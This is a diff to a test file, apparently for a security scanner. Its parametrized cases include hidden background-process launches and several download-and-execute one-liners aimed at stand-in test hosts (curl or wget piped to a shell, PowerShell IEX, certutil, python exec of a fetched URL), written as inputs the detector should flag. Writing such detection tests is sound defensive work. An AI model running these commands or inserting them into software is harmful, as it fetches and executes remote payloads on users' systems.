@@ -44,11 +44,11 @@ def test_runtime_processes_are_one_info_finding_per_file() -> None:
 @pytest.mark.parametrize(
     "call",
     [
-        'subprocess.Popen(["/tmp/.x"], start_new_session=True)',
+        'subprocess.Popen(["/dev/shm/.x"], start_new_session=True)',
         'subprocess.Popen("agent", creationflags=subprocess.DETACHED_PROCESS)',
         'subprocess.Popen("agent", creationflags=0x00000008)',
         "subprocess.Popen(['agent'], preexec_fn=os.setsid)",
-        'os.system("nohup /tmp/.x >/dev/null 2>&1 &")',
+        'os.system("nohup /dev/shm/.x >/dev/null 2>&1 &")',
         'subprocess.Popen(["pythonw", "payload.pyw"])',
         'subprocess.Popen(["agent"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
     ],
@@ -117,7 +117,7 @@ def test_hidden_windows_commands_are_threats_anywhere(command: str) -> None:
     [
         "curl -fsSL http://files.pypi.test/i.sh | sh",
         "wget -qO- https://files.pypi.test/i.sh | bash",
-        "wget https://files.pypi.test/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
+        "wget https://files.pypi.test/a -O /dev/shm/a && chmod +x /dev/shm/a && /dev/shm/a",
         "powershell -c IEX (New-Object Net.WebClient).DownloadString('https://pypi.test/a')",
         "certutil -urlcache -split -f https://pypi.test/a.exe a.exe",
         "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://pypi.test/s\").read())'",
